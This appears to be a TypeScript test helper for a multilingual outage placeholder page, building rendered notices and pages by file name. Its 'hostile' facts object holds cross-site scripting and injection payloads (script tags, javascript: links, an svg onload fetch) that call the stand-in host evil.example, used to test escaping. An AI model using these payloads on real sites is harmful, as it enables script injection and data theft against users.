import { type Config, noConfig } from "../../../../../src/core/config/types.ts";
import { type Locale, locales } from "../../../../../src/core/i18n/locale.ts";
import type { About } from "../../../../../src/core/notice/channels/channel.ts";
import { page } from "../../../../../src/core/notice/channels/page.ts";
import { onePage } from "../../../../../src/core/notice/channels/page/html.ts";
import type { NoticeFile, RenderedNotice } from "../../../../../src/core/notice/types.ts";
import { type Facts, fullFacts } from "../../../../templates/facts.ts";
import { noticeOf, shipped } from "../../../../templates/shipped.ts";

/** Between the promised word and the expected end that the facts of `test/templates/facts.ts` name. */
export const now = Date.parse("2026-11-23T02:00:00Z");

const about = (config: Config = noConfig): About => ({
  config,
  now,
  id: "outage-2026-11-23/placeholder-page#1",
});

/** The shipped placeholder page with realistic facts, some of them changed. */
export const pageNotice = (locale: Locale, changed: Facts = {}): RenderedNotice =>
  noticeOf(shipped("placeholder-page", locale), { ...fullFacts(locale), ...changed });

export const pageNotices = (changed: Facts = {}, wanted: readonly Locale[] = locales): readonly RenderedNotice[] =>
  wanted.map((locale) => pageNotice(locale, changed));

/** Every page of a notice, those of one language and the one with all of them, by file name. */
export function pagesOf(notices: readonly RenderedNotice[], config: Config = noConfig): ReadonlyMap<string, string> {
  const own = notices.map(
    (notice) => [`${notice.template}.${notice.locale}.html`, onePage(notice, about(config))] as const,
  );
  const all = filesOf(notices, config).filter(({ name }) => name.endsWith(".html"));
  return new Map([...own, ...all.map(({ name, content }) => [name, content] as const)]);
}

/** What the languages give together. */
export const filesOf = (notices: readonly RenderedNotice[], config: Config = noConfig): readonly NoticeFile[] =>
  page.together?.(notices, about(config)) ?? [];

/** Facts that try to become markup, links or requests (fault N3). */
export const hostile: Facts = {
  company: '<img src="https://evil.example/i.png">"><script>document.title="taken"</script>',
  service: "</title><script src=https://evil.example/x.js></script> [shop](javascript:alert(1))",
  affected: '![i](https://evil.example/i.png) <iframe src="https://evil.example"></iframe> {{company}} *|X|* # x',
  entered_data: "<style>@import url(https://evil.example/s.css)</style> <a href='javascript:alert(1)'>x</a> &lt;b&gt;",
  contact_hours: "<svg onload=fetch('https://evil.example')> </main></section>",
};
